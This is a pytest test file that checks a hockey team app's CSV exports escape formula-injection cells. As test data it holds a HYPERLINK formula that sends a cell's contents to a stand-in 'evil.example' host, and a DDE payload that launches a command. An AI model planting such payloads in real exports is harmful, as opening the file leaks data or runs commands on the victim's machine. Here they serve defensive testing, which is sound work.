"""Every CSV the app writes escapes cells a spreadsheet would run as formulas: the page's results
CSV, the API's results export and the medical export all go through hockeyhub.csvcells.csv_safe."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from api.services import api_token_create
from batch.services import batch_submit
from hockeyhub.csvcells import csv_safe
from tests.batch.conftest import run_unfinished
from tests.factories import PlayerFactory, RestrictionFactory, WorkoutFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_safe_prefixes_formula_starts_and_leaves_the_rest():
    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    plain = ("Leg day", 42, -5, -0.5, None, "a=b")  # numbers are never formulas
    assert [csv_safe(v) for v in plain] == ["Leg day", "42", "-5", "-0.5", "", "a=b"]


def test_the_api_results_csv_neutralises_formula_cells(client, trainer, team, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    workout = WorkoutFactory(team=team, name=EVIL)
    raw = {
        "operations": [
            {"id": "@op", "type": "UPDATE", "data": {"workoutId": workout.pk, "updates": {"notes": "x"}}}
        ]
    }
    batch = batch_submit(user=trainer, team=team, raw=raw, source="test")
    run_unfinished()
    token = api_token_create(user=trainer, team=team, name="csv")[1]
    response = client.get(
        f"/api/v1/batches/{batch.pk}/export",
        {"what": "results", "format": "csv"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["target_name"] == "'" + EVIL and row["id"] == "'@op", row
    assert not any(value.startswith(("=", "@")) for value in row.values())


def test_the_medical_export_neutralises_formula_cells(medic, team):
    RestrictionFactory(player=PlayerFactory(team=team), title="=cmd|' /C calc'!A0", clinical_notes="@SUM(1)")
    out = io.StringIO()
    call_command("medical_export", user=medic.username, notes=True, purpose="review", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)
